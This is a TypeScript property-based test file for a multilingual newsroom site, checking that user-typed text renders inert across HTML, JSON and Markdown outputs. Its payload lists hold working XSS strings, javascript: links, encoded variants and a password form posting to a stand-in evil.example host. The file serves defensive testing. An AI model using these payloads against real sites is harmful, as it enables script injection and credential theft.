import fc from 'fast-check'
import markdownIt from 'markdown-it'
import { beforeAll, describe, expect, test } from 'vitest'
import { processorTime } from '#runtime'
import { type BriefingFile, lineMax } from '../../src/briefings/briefing'
import { mapSegments, segmentsOf } from '../../src/briefings/segments'
import { inertMarkdown, renderMarkdown } from '../../src/language/markdown'
import type { LocaleFile } from '../../src/translations/translation'
import { aBriefing, aTranslation } from '../support/briefings'
import { articleIn, dangersIn, tagsOf } from '../support/html'
import { type Newsroom, openNewsroom } from '../support/newsroom'
import { rounds } from '../support/rounds'

/** What people with bad intentions type into a text field. */
const payloads = [
  '<script>alert(1)</script>',
  '</title></head><script src=//evil.example></script>',
  '"><img src=x onerror=alert(1)>',
  "' autofocus onfocus=alert(1) x='",
  '<svg onload=alert(1)><animate onbegin=alert(1)>',
  '<math><mtext></table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<form action="https://evil.example"><input name="password"><button>',
  '<a id="text" name="title" href="javascript:alert(1)">x</a>',
  '<style>*{display:none}</style><link rel=stylesheet href=//evil.example>',
  '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=//evil.example">',
  '</article></main><!--',
  '--><script>alert(1)</script>',
  ']]><script>alert(1)</script>',
  '<!-- cut -->',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](<javascript:alert(1)>)',
  '[x](&#106;avascript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](\\javascript:alert(1))',
  '[x]( vbscript:alert(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](//evil.example)',
  '[x](https://a.example "onmouseover=alert(1)")',
  '[x](https://a.example/"onmouseover="alert(1))',
  '<javascript:alert(1)>',
  '<https://a.example/"onmouseover="alert(1)>',
  '![x](https://tracker.example/p.gif)',
  '![x](javascript:alert(1))',
  '[![x](https://tracker.example/p.gif)](javascript:alert(1))',
  '[x\\](javascript:alert(1))',
  '[x][y] [y]: javascript:alert(1)',
  '`<img src=x onerror=alert(1)>`',
  '\\<img src=x onerror=alert(1)>',
  '*<b onclick=alert(1)>*',
  '{{constructor.constructor("alert(1)")()}} #{alert(1)}',
]

/** More of the same, which only a passage of several lines can hold. */
const passages = [
  '[x]\n\n[x]: javascript:alert(1)',
  '[x][]\n\n> [x]:\n> javascript:alert(1)',
  '<div\nonmouseover=alert(1)>\n\n<script>\nalert(1)\n</script>',
  '```html\n<script>alert(1)</script>',
  '~~~\n<img src=x onerror=alert(1)>',
  '    <script>alert(1)</script>',
  '- <script>alert(1)</script>\n  1. [x](\n     javascript:alert(1))',
  '| <script> |\n|---|\n| [x](javascript:alert(1)) |',
]

const line = (payload: string) => payload.replace(/\s*\n\s*/g, ' ').slice(0, lineMax)

/** The briefing with this in every place where a person types, and its translation likewise. */
function filledWith(payload: string): { briefing: BriefingFile; translations: LocaleFile[] } {
  const plain = aBriefing()
  const typed = mapSegments(plain, ({ kind }) => (kind === 'markdown' ? payload : line(payload)))
  const briefing: BriefingFile = {
    ...plain,
    ...typed,
    byline: [line(payload)],
    organisations: [{ id: 'port', name: line(payload) }],
    image: { ...plain.image, ...typed.image, by: line(payload) },
    sections: typed.sections.map((each) => ({ ...each, access: 'public' })),
    linkedOrganisations: {
      access: 'public',
      notes: typed.linkedOrganisations.notes.map((each) => ({ ...each, name: line(payload) })),
    },
    sources: typed.sources.map((each) => ({
      ...each,
      url: 'https://a.example/"onmouseover="alert(1)>)<img/src=x/onerror=alert(1)>',
    })),
  }
  const segments = Object.fromEntries(segmentsOf(briefing).map(({ id }) => [id, payload]))
  const translation = aTranslation(briefing, 'es', { credits: [payload], provenance: 'machine', segments })
  return { briefing, translations: [translation, { ...translation, locale: 'ar', segments: { ...segments, title: '' } }] }
}

const pages = [
  '/en/',
  '/es/',
  '/ar/',
  ...['en', 'es', 'ar', 'fr', 'ca'].map((locale) => `/${locale}/briefings/harbour-closes`),
  '/es/briefings/harbour-closes/bilingual',
  '/ar/briefings/harbour-closes/bilingual',
]

const tagNames = (html: string) => new Set(tagsOf(html).map(({ name }) => name))
const idsOf = (html: string) => tagsOf(html).flatMap(({ attributes }) => attributes.get('id') ?? [])

/** What the tags of typed Markdown may be, beside those of the page itself. */
const typedTags = new Set([
  ...['h3', 'h4', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'sup', 'section'],
  ...['p', 'em', 'strong', 'code', 'a', 'ul', 'ol', 'li', 'blockquote', 'br', 'pre'],
])

/** What typed Markdown may become where a renderer knows more of it than ours: nothing that loads, runs or leads anywhere. */
const otherTags = new Set(['h1', 'h2', 'h5', 'h6', 'hr', 's'])

/** A renderer that lets through whatever a document holds. */
const trusting = markdownIt({ html: true })
trusting.validateLink = () => true

const piece = fc.oneof(
  fc.constantFrom(
    '<',
    '>',
    '"',
    "'",
    '`',
    '[',
    ']',
    '(',
    ')',
    '!',
    '\\',
    '&',
    '#',
    '*',
    '_',
    '~',
    '\n',
    '\n\n',
    ' ',
    ':',
    '/',
    '{',
    '}',
  ),
  fc.constantFrom(
    'javascript:',
    'https://a.example',
    'onerror=alert(1)',
    'script',
    'img src=x',
    '/script',
    '!--',
    '--',
    '&lt;',
    '&#106;',
    'x',
    'data:',
  ),
  fc.constantFrom(...payloads, ...passages),
)
const texts = fc.array(piece, { minLength: 2, maxLength: 14 }).map((pieces) => `x${pieces.join('')}x`)

async function expectInert(newsroom: Newsroom, harmless: ReadonlyMap<string, string>) {
  for (const path of pages) {
    const response = await newsroom.get(path)
    expect(response.status).toBe(200)
    const page = await response.text()
    const plain = harmless.get(path) ?? ''
    expect(dangersIn(page)).toEqual([])
    expect(page.endsWith('</html>')).toBe(true)
    expect([...tagNames(page)].filter((name) => !tagNames(plain).has(name) && !typedTags.has(name))).toEqual([])
    expect(tagsOf(articleIn(page)).filter(({ name }) => name === 'img')).toHaveLength(
      path.includes('bilingual') || path.endsWith('/') ? 0 : 1,
    )
    expect(idsOf(page)).toEqual(idsOf(plain))
    for (const { text } of tagsOf(page).filter(({ attributes }) => attributes.get('type') === 'application/ld+json'))
      JSON.parse(text)
  }
  for (const locale of ['en', 'es', 'ar', 'fr']) {
    const json = await newsroom.text(`/${locale}/briefings/harbour-closes.json`)
    const fragments: string[] = []
    JSON.parse(json, (key, value: unknown) => (key === 'html' ? fragments.push(String(value)) : value))
    expect(fragments.length).toBeGreaterThan(3)
    for (const fragment of fragments) expect(dangersIn(fragment)).toEqual([])
    const markdown = await newsroom.text(`/${locale}/briefings/harbour-closes.md`)
    const rendered = trusting.render(markdown)
    expect(dangersIn(rendered)).toEqual([])
    expect([...tagNames(rendered)].filter((name) => !typedTags.has(name) && !otherTags.has(name))).toEqual([])
  }
}

/** The same pages of a briefing that nobody meant ill by. */
async function harmlessPages(): Promise<ReadonlyMap<string, string>> {
  const newsroom = await openNewsroom()
  await newsroom.load(filledWith('Nothing but words.'))
  return new Map(await Promise.all(pages.map(async (path) => [path, await newsroom.text(path)] as const)))
}

describe('what a person typed is text, in every place and every output', () => {
  let harmless: ReadonlyMap<string, string>
  beforeAll(async () => {
    harmless = await harmlessPages()
  })

  test.each([...payloads, ...passages])('%s', async (payload) => {
    const newsroom = await openNewsroom()
    await newsroom.keep(filledWith(payload))
    await expectInert(newsroom, harmless)
  })

  test('whatever pieces it is put together from', async () => {
    await fc.assert(
      fc.asyncProperty(texts, async (text) => {
        const newsroom = await openNewsroom()
        await newsroom.keep(filledWith(text))
        await expectInert(newsroom, harmless)
      }),
      { numRuns: rounds(10) },
    )
  })

  test('in every passage of Markdown, whatever pieces that is put together from', () => {
    fc.assert(
      fc.property(texts, (text) => {
        expect(dangersIn(renderMarkdown(text))).toEqual([])
        expect(dangersIn(trusting.render(inertMarkdown(text)))).toEqual([])
      }),
      { numRuns: rounds(3000) },
    )
  })

  test.each([
    ['quotations in quotations', '>'.repeat(5000)],
    ['brackets', '['.repeat(19_000)],
    ['brackets and parentheses', '[]('.repeat(6000)],
    ['stars', '*a_'.repeat(6000)],
    ['lists in lists', Array.from({ length: 190 }, (_, index) => `${' '.repeat(index)}- x`).join('\n')],
    ['backticks', '`'.repeat(19_999)],
    ['angles', '<'.repeat(19_999)],
    ['one long word', 'x'.repeat(20_000)],
  ])('%s without end are printed within seconds', async (_name, text) => {
    const newsroom = await openNewsroom()
    const briefing = aBriefing({ context: text })
    const begun = processorTime()
    await newsroom.keep({ briefing, translations: [aTranslation(briefing, 'es', { segments: { context: text } })] })
    const page = await newsroom.text('/es/briefings/harbour-closes')
    expect(processorTime() - begun).toBeLessThan(4000)
    expect(dangersIn(page)).toEqual([])
  })

  test('and nothing else: a passage that nobody meant ill by reads the same wherever it is rendered', () => {
    const passage =
      'A *b* **c** & `d` \\[e\\]: 1 < 2 > 0! [f](https://f.example "g") <https://h.example> [i] (j)\n\n- k\n- l\n\n> m [n](mailto:o@p.example)'
    expect(renderMarkdown(inertMarkdown(passage))).toBe(renderMarkdown(passage))
    expect(trusting.render(inertMarkdown(passage)).trim()).toBe(renderMarkdown(passage))
  })

  test('stays in its own language’s column and paragraph where it turns the direction of writing', async () => {
    const newsroom = await openNewsroom()
    const briefing = aBriefing({ organisations: [{ id: 'port', name: 'ميناء' }] })
    await newsroom.load({ briefing })
    expect(await newsroom.text('/en/briefings/harbour-closes')).toContain('<bdi>ميناء</bdi>')
  })
})
